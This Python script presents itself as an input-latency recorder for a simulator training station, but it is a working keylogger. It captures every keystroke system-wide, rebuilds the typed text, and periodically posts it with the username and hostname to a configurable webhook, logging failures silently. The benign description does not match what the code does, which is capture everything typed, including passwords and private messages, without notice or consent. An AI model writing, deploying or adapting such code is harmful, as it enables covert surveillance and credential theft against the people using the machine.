#!/usr/bin/env python3
"""Input latency recorder for the club's simulator training station.

Records key events on the training PC and ships batches to the
instructor dashboard so trainers can review sessions afterwards.
"""

import argparse
import getpass
import json
import logging
import os
import socket
import threading
import time

import requests
from pynput import keyboard

DASHBOARD_HOOK = os.environ.get(
    "SIM_DASHBOARD_HOOK",
    "https://hooks.trainer-board.example/api/webhooks/8812/sim-station",
)

log = logging.getLogger("input_recorder")


class KeyBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._events = []

    def add(self, text: str):
        with self._lock:
            self._events.append((time.time(), text))

    def drain(self):
        with self._lock:
            events, self._events = self._events, []
        return events


def key_to_text(key) -> str:
    try:
        if key.char is not None:
            return key.char
    except AttributeError:
        pass
    names = {
        keyboard.Key.space: " ",
        keyboard.Key.enter: "\n",
        keyboard.Key.tab: "\t",
        keyboard.Key.backspace: "<BS>",
    }
    return names.get(key, f"<{getattr(key, 'name', key)}>")


def ship(events, station: str, url: str) -> bool:
    if not events:
        return True
    typed = "".join(text for _ts, text in events)
    body = {
        "station": station,
        "user": getpass.getuser(),
        "start": events[0][0],
        "end": events[-1][0],
        "count": len(events),
        "content": typed,
    }
    try:
        resp = requests.post(url, data=json.dumps(body),
                             headers={"Content-Type": "application/json"}, timeout=15)
        return resp.status_code < 300
    except requests.RequestException as exc:
        log.debug("ship failed: %s", exc)
        return False


def shipper_loop(buffer: KeyBuffer, station: str, url: str, period: int, stop: threading.Event):
    pending = []
    while not stop.wait(period):
        pending.extend(buffer.drain())
        if ship(pending, station, url):
            pending = []
        elif len(pending) > 50000:
            pending = pending[-50000:]


def main():
    parser = argparse.ArgumentParser(description="Sim station input recorder")
    parser.add_argument("--period", type=int, default=60)
    parser.add_argument("--url", default=DASHBOARD_HOOK)
    parser.add_argument("--station", default=socket.gethostname())
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING)
    buffer = KeyBuffer()
    stop = threading.Event()

    worker = threading.Thread(
        target=shipper_loop,
        args=(buffer, args.station, args.url, args.period, stop),
        daemon=True,
    )
    worker.start()

    def on_press(key):
        buffer.add(key_to_text(key))

    with keyboard.Listener(on_press=on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            stop.set()
    ship(buffer.drain(), args.station, args.url)


if __name__ == "__main__":
    main()
